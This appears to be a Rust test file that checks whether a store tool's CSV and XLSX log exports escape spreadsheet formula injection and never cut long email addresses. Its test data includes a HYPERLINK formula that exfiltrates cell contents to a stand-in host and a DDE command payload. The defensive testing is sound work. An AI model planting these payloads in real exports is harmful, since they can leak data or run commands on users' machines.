//! Cells with other people's text: formulas, quotes, line ends, long ones.

use std::fs;

use serde_json::Value;

use super::{bytes, export, lines, manifest, oldest_first, text};
use crate::log::FIELDS;
use crate::support::{
    TestStore, create_user_with_own_role, rest_customer, rest_page, sample_stores,
};

/// Text that a spreadsheet would evaluate or misinterpret.
const FORMULAS: [&str; 9] = [
    r#"=HYPERLINK("https://evil.example/?"&A1,"look")"#,
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|'/c calc'!A0",
    "＝1+1",
    "\u{200b}=1",
    "-",
    "+49 170 1234567",
];

/// Text that resembles it but is harmless.
const TEXTS: [&str; 7] = [
    "says \"no\", twice\nand then\r\nnothing",
    "a, b; c\td",
    "-5",
    "👩‍👧 ❤️ שלום ß",
    "NULL",
    "'=1",
    "<b>&amp;</b> _x000D_",
];

/// A store where all of that was entered: as reasons, as names, and as an
/// address of maximal length.
fn shop() -> TestStore {
    let store = TestStore::new();
    for (kind, data) in sample_stores() {
        store.import(kind, &data);
    }
    let names = FORMULAS.iter().chain(&TEXTS);
    let people: Vec<Value> = (1..)
        .zip(names)
        .map(|(id, name)| rest_customer(id, &format!("c{id}@example.com"), (name, name), (1, 1), 2))
        .collect();
    let whose = people.len();
    store.import("customers", &rest_page(&people));
    for (id, reason) in (1..=whose).zip(FORMULAS.iter().chain(&TEXTS)) {
        let id = id.to_string();
        let args = ["login", &id, "--reason", "-"];
        let ran = store.run_with(reason.as_bytes(), &args);
        assert_eq!(ran.code, 5, "{ran:?}");
    }
    // Admin users and roles can also have such names.
    let boss = create_user_with_own_role(&store, "@boss", &[]);
    store
        .run_as(&boss, &["login", "1", "-o", "json"])
        .assert_failed("resource_denied", 4);
    let long = longest();
    store.run_ok(&["customer", "add", "--email", &long, "--website", "base"]);
    let most = "=é\"\n😀".repeat(400);
    store.run_with(most.as_bytes(), &["login", &long, "--reason", "-"]);
    store
}

/// 254 characters that begin with a formula.
fn longest() -> String {
    let domain = format!(
        "{}.{}.{}.example",
        "d".repeat(60),
        "e".repeat(60),
        "f".repeat(54)
    );
    let email = format!("={}@{domain}", "l".repeat(254 - 2 - domain.len()));
    assert_eq!(email.len(), 254);
    email
}

/// OWASP, "CSV injection": text that begins this way after white space and
/// invisible characters, except plain numbers.
fn runs(text: &str) -> bool {
    let begins =
        text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{200b}');
    let is_number =
        text.trim_start_matches(['+', '-']).parse::<f64>().is_ok() && !text.ends_with('.');
    let is_bad =
        begins.starts_with(['=', '+', '-', '@', '＝']) || text.starts_with(['\t', '\r', '\n']);
    is_bad && !is_number
}

fn rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let row = |row: csv::Result<csv::StringRecord>| {
        row.expect("a row").iter().map(str::to_owned).collect()
    };
    reader.records().map(row).collect()
}

/// Every cell equals the JSON value; only dangerous ones have a `'` in front.
#[test]
fn formulas_are_escaped_in_csv_and_the_manifest_says_so() {
    let store = shop();
    let log = oldest_first(store.log_events());
    for (name, raw) in [("inert.csv", &[][..]), ("raw.csv", &["--raw"])] {
        export(
            &store,
            name,
            &[raw, &["--not-action-group", "log"]].concat(),
        );
        assert_eq!(manifest(&store, name)["formula_guard"], raw.is_empty());
        let rows = rows(&text(&store, name));
        assert_eq!(rows.len(), log.len());
        let mut guarded = 0;
        for (row, event) in rows.iter().zip(&log) {
            for (cell, field) in row.iter().zip(FIELDS) {
                let Some(value) = event[field].as_str() else {
                    continue;
                };
                if raw.is_empty() && runs(value) {
                    assert_eq!(*cell, format!("'{value}"), "{field}");
                    guarded += 1;
                } else {
                    assert_eq!(cell, value, "{field}");
                }
            }
        }
        // The reasons; the address, twice, and its reason; the boss and the
        // role.
        let expected = if raw.is_empty() {
            FORMULAS.len() + 5
        } else {
            0
        };
        assert_eq!(guarded, expected);
    }
    // JSON Lines carry everything unchanged, and say so.
    export(&store, "all.jsonl", &["--not-action-group", "log"]);
    assert_eq!(lines(&text(&store, "all.jsonl")), log);
    assert_eq!(manifest(&store, "all.jsonl")["formula_guard"], false);
}

/// `tests/foreign/xlsx.py` reads them with a third-party library.
#[test]
fn formulas_are_escaped_in_workbooks() {
    let store = shop();
    for (name, flags) in [("inert.xlsx", &[][..]), ("raw.xlsx", &["--raw"])] {
        export(&store, name, flags);
        assert_eq!(manifest(&store, name)["formula_guard"], flags.is_empty());
        let file = fs::File::open(store.home().join(name)).expect("a workbook");
        let mut book = zip::ZipArchive::new(file).expect("a workbook");
        let part = book.by_name("xl/worksheets/sheet1.xml").expect("a sheet");
        let sheet = std::io::read_to_string(part).expect("XML");
        assert!(!sheet.contains("<f>") && !sheet.contains("<hyperlink"));
        let guarded = sheet.matches(">'=HYPERLINK(").count();
        let bare = sheet.matches(">=HYPERLINK(").count();
        let expected = if flags.is_empty() { (1, 0) } else { (0, 1) };
        assert_eq!((guarded, bare), expected, "{name}");
    }
}

/// Email addresses are never cut.
#[test]
fn the_longest_address_is_never_cut() {
    let store = shop();
    let email = longest();
    let log = store.log_events();
    let theirs = log
        .iter()
        .filter(|e| e["customer_email"] == email.as_str())
        .count();
    assert_eq!(theirs, 2);
    for name in ["q4.csv", "q4.jsonl", "q4.ocsf"] {
        export(&store, name, &["--customer", &email.to_uppercase()]);
        assert_eq!(
            text(&store, name).matches(&email).count() / theirs,
            1,
            "{name}"
        );
        assert_eq!(manifest(&store, name)["rows"], theirs);
    }
    let before = bytes(&store, "q4.csv");
    assert!(
        String::from_utf8(before)
            .expect("UTF-8")
            .contains(&format!(",'{email},"))
    );
}
